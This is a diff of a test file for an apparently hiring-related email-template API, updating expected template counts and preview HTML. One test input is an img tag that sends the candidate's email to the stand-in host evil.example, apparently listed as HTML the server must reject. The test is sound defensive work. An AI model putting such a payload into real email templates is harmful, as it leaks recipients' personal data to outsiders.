@@ -185,7 +185,7 @@ describe('templates', () => {
   it('every default renders with its sample data, without placeholders', async () => {
     const workspace = await service.workspace();
     const { body } = await workspace.api('GET', '/email-templates');
-    assert.equal(body.data.length, 7);
+    assert.equal(body.data.length, 8);
     for (const { kind } of body.data) {
       const preview = await workspace.api('POST', `/email-templates/${kind}/preview`);
       assert.equal(preview.status, 200, kind);
@@ -268,7 +268,7 @@ describe('the HTML of the other emails', () => {
     const words = { subject: 'x', text: 'x' };
     assert.equal((await workspace.api('PUT', path, { ...words, html: `${logo}<p>Hi</p>` })).status, 200);
     const { body } = await workspace.api('POST', `${path}/preview`);
-    assert.equal(body.data.html, `${logo}<p>Hi</p>`);
+    assert.ok(body.data.html.startsWith(`${logo}<p>Hi</p>\n<p><a href="https://hiring.example.com/my/`));
     for (const html of [
       '<img src="https://evil.example/?{{ candidate.email | url_encode }}">',
       '<img src="http://acme.example/logo.png">',
@@ -290,6 +290,7 @@ describe('the HTML of the other emails', () => {
     const { body } = await workspace.api('POST', '/applications', { candidateId, jobId: job.id });
     await workspace.api('POST', `/applications/${body.data.id}/reject`, { notifyCandidate: true });
     const mail = (await emailsOf(workspace)).find(({ kind }) => kind === 'application_rejected');
-    assert.equal(mail.html, '<p>Hi</p>');
+    assert.match(mail.html, /^<p>Hi<\/p>\n<p><a href="http\S+\/my\/only-in-the-email-itself"/);
+    assert.doesNotMatch(mail.html, /evil/);
   });
 });
